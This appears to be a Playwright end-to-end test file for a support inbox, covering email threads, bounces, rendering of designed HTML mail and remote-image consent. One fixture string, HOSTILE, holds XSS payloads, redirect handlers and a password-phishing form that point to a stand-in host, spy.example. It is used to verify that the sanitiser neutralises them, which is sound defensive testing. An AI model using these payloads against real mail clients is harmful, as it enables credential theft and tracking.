import { agentReplies, inThread, openConversation, signIn } from '../fixtures/agent';
import { CUSTOMERS, customerMails, customerSends, mailThread, openPhone, Phone } from '../fixtures/customer';
import { expect, test } from '../fixtures/product';

/** What a sender would do in the reader's browser if it were let. */
const HOSTILE = `<script>parent.document.title = document.title = "owned"</script><h2>Free plants</h2>
  <img src="x" onerror="top.location = 'https://spy.example'"><svg onload="top.location = 'https://spy.example'"></svg>
  <form action="https://spy.example"><input name="password"><button>Sign in again</button></form>
  <iframe src="https://spy.example"></iframe><meta http-equiv="refresh" content="0;url=https://spy.example">
  <p style="position:fixed;inset:0;background:url(https://spy.example/a.png)">For you</p>`;

test('a mail is answered, the answer arrives in its thread, and the reply to that goes on with the conversation', async ({
  context,
  page,
  product,
}) => {
  await signIn(page, product.agent('owner'));
  await page.goto('/inbox/all');
  const phone = await context.newPage();
  await openPhone(phone, product, CUSTOMERS['E-mail']);

  await customerSends(phone, 'Photo');
  await customerMails(phone, { subject: 'My fig tree', text: 'It loses its leaves, one every other day.' });
  await page.bringToFront();
  await openConversation(page, 'My fig tree');
  const question = inThread(page, 'It loses its leaves');
  await expect(question.getByText('My fig tree')).toBeVisible();
  await expect(question.getByRole('img', { name: 'photo' })).toBeVisible();
  const conversation = page.url();

  await agentReplies(page, 'Give it more light and less water.');
  await expect(inThread(page, 'Give it more light').getByTitle('Sent', { exact: true })).toBeVisible();
  const thread = mailThread(phone, 'My fig tree');
  await expect(thread.getByText('Give it more light and less water.')).toBeVisible();
  await expect(thread.getByRole('article')).toHaveCount(2);

  await phone.bringToFront();
  await thread.getByRole('button', { name: 'Reply', exact: true }).click();
  await customerMails(phone, { text: 'It looks better already, thank you!' });
  await expect(thread.getByRole('article')).toHaveCount(3);
  await page.bringToFront();
  const reply = inThread(page, 'It looks better already');
  await expect(reply).toBeVisible();
  // What it quotes is there, but does not stand in the way.
  await expect(reply.getByText('> Give it more light and less water.')).toBeHidden();
  await reply.getByText('•••').click();
  await expect(reply.getByText('> Give it more light and less water.')).toBeVisible();
  expect(page.url()).toBe(conversation);
  await expect(page.locator('a[data-row]', { hasText: 'My fig tree' })).toHaveCount(1);

  await phone.bringToFront();
  await customerMails(phone, { subject: 'Opening hours', text: 'Are you open on Sunday?' });
  await page.bringToFront();
  await expect(page.locator('a[data-row]', { hasText: 'Opening hours' })).toBeVisible();
  await expect(inThread(page, 'Are you open on Sunday?')).toHaveCount(0);
});

test('a mail that comes back and one that is refused say why, and the refused one goes when it is sent again', async ({
  page,
  product,
}) => {
  const greta = new Phone(product, CUSTOMERS['E-mail']);
  await greta.does({ kind: 'text', subject: 'A gift card', text: 'Do you have gift cards?' });
  await signIn(page, product.agent('owner'));
  await page.goto('/inbox/all');
  await openConversation(page, 'A gift card');

  await agentReplies(page, 'From 20 € on.');
  const first = inThread(page, 'From 20 € on.');
  await expect(first.getByTitle('Sent', { exact: true })).toBeVisible();
  const sent = (await greta.messages()).find((message) => message.text === 'From 20 € on.');
  expect(sent?.subject).toBe('Re: A gift card');
  await greta.does({ kind: 'bounce', message: sent?.id, code: 522 });
  await expect(first.getByText(/^Not sent: .*full/)).toBeVisible();

  await greta.trouble({ kind: 'error', code: 550, times: 1 });
  await agentReplies(page, 'Shall I make one?');
  const second = inThread(page, 'Shall I make one?');
  await expect(second.getByText(/^Not sent: .*No such user here/)).toBeVisible();
  expect(await greta.count('Shall I make one?')).toBe(0);
  await second.getByRole('button', { name: 'Send again' }).click();
  await expect(second.getByTitle('Sent', { exact: true })).toBeVisible();
  expect(await greta.count('Shall I make one?')).toBe(1);
});

test('a designed mail is read as text, is shown as designed when asked for, and fetches pictures from elsewhere only then', async ({
  page,
  product,
}) => {
  await new Phone(product, CUSTOMERS['E-mail']).does({ kind: 'designed_mail' });
  const fetched: string[] = [];
  await page.route('https://cafe-linden.example/**', (route) => {
    fetched.push(new URL(route.request().url()).pathname);
    return route.fulfill({ contentType: 'image/gif', body: Buffer.from('R0lGODlhAQABAAAAACwAAAAAAQABAAA=', 'base64') });
  });
  await signIn(page, product.agent('owner'));
  await page.goto('/inbox/all');
  await openConversation(page, 'A parcel for Café Linden');
  const mail = inThread(page, 'Monstera, large: fine');
  await expect(mail.getByRole('img', { name: 'photo' })).toBeVisible();

  const link = mail.getByRole('link', { name: 'Show formatted' });
  await link.click();
  const dialog = page.getByRole('dialog', { name: 'Mail' });
  await expect(dialog.getByRole('heading', { name: 'A parcel for Café Linden' })).toBeVisible();
  const frame = dialog.frameLocator('iframe');
  await expect(frame.getByRole('heading', { name: 'Our parcel came with a crack' })).toBeVisible();
  await expect(frame.getByRole('cell', { name: 'Fern, hanging' })).toBeVisible();
  const picture = frame.getByRole('img', { name: 'The parcel by the window' });
  await expect.poll(() => picture.evaluate((image: HTMLImageElement) => image.naturalWidth)).toBeGreaterThan(0);
  await expect(frame.getByRole('link', { name: 'See all photos' })).toHaveAttribute('rel', 'noopener noreferrer nofollow');
  const room = await dialog.locator('iframe').boundingBox();
  expect(room?.height).toBeGreaterThan(750);
  expect(fetched).toEqual([]);

  await dialog.getByRole('button', { name: 'Load remote pictures' }).click();
  await expect.poll(() => [...fetched].sort()).toEqual(['/logo.png', '/opened.gif']);
  await expect(frame.getByRole('heading', { name: 'Our parcel came with a crack' })).toBeVisible();
  await expect(dialog.getByRole('button', { name: 'Remote pictures loaded' })).toBeFocused();
  await page.keyboard.press('Escape');
  await expect(dialog).toBeHidden();
  await expect(link).toBeFocused();

  // Whoever opens it again is asked again.
  await link.click();
  await expect(dialog.getByRole('button', { name: 'Load remote pictures' })).toBeVisible();
  await dialog.getByRole('button', { name: 'Close mail' }).click();
  await expect(dialog).toBeHidden();
});

test('a hostile mail shows its words and does nothing', async ({ page, product }) => {
  const left: string[] = [];
  await page.route('https://spy.example/**', (route) => {
    left.push(route.request().url());
    return route.abort();
  });
  await new Phone(product, CUSTOMERS['E-mail']).does({ kind: 'text', subject: 'Win', text: 'Free plants', html: HOSTILE });
  await signIn(page, product.agent('owner'));
  await page.goto('/inbox/all');
  await openConversation(page, 'Win Free plants');
  await inThread(page, 'Free plants').getByRole('link', { name: 'Show formatted' }).click();
  const frame = page.getByRole('dialog', { name: 'Mail' }).frameLocator('iframe');
  await expect(frame.getByRole('heading', { name: 'Free plants' })).toBeVisible();
  await expect(frame.getByText('For you')).toBeVisible();
  await expect(frame.locator('script, form, input, iframe, svg, meta[http-equiv]')).toHaveCount(0);
  expect(left).toEqual([]);
  // Who asks for pictures gets pictures, and nothing else.
  await page.getByRole('button', { name: 'Load remote pictures' }).click();
  await expect.poll(() => left).toEqual(['https://spy.example/a.png']);
  await expect(frame.getByText('For you')).toBeVisible();
  await expect(page).not.toHaveTitle(/owned/);
  await expect(page).toHaveURL(/\/inbox\/all\/\d+/);
});

test('a designed mail fits on a phone @phone', async ({ page, product }) => {
  await new Phone(product, CUSTOMERS['E-mail']).does({ kind: 'designed_mail' });
  await signIn(page, product.agent('owner'));
  await page.goto('/inbox/all');
  await openConversation(page, 'A parcel for Café Linden');
  await inThread(page, 'Monstera, large: fine').getByRole('link', { name: 'Show formatted' }).click();
  const dialog = page.getByRole('dialog', { name: 'Mail' });
  const body = dialog.frameLocator('iframe').locator('body');
  await expect(body.getByRole('heading', { name: 'Our parcel came with a crack' })).toBeVisible();
  const [screen, room] = [page.viewportSize(), await dialog.locator('iframe').boundingBox()];
  expect(room?.width).toBeGreaterThan((screen?.width ?? 0) * 0.85);
  expect((room?.x ?? 0) + (room?.width ?? 0)).toBeLessThanOrEqual(screen?.width ?? 0);
  // The design itself is not wider than its frame, so nothing has to be scrolled to.
  expect(await body.evaluate((element) => element.ownerDocument.documentElement.scrollWidth)).toBeLessThanOrEqual(Math.ceil(room?.width ?? 0));
});

test.describe('without JavaScript', () => {
  test.use({ javaScriptEnabled: false });

  test('a designed mail is a link to its page', async ({ page, product }) => {
    await new Phone(product, CUSTOMERS['E-mail']).does({ kind: 'designed_mail', text: 'No script, please' });
    await signIn(page, product.agent('owner'));
    await page.goto('/inbox/all');
    await page.locator('a[data-row]', { hasText: 'No script, please' }).click();
    const opening = page.waitForEvent('popup');
    await inThread(page, 'No script, please').getByRole('link', { name: 'Show formatted' }).click();
    const mail = await opening;
    await expect(mail.getByRole('heading', { name: 'Our parcel came with a crack' })).toBeVisible();
    await expect(mail).toHaveTitle('A parcel for Café Linden');
  });
});
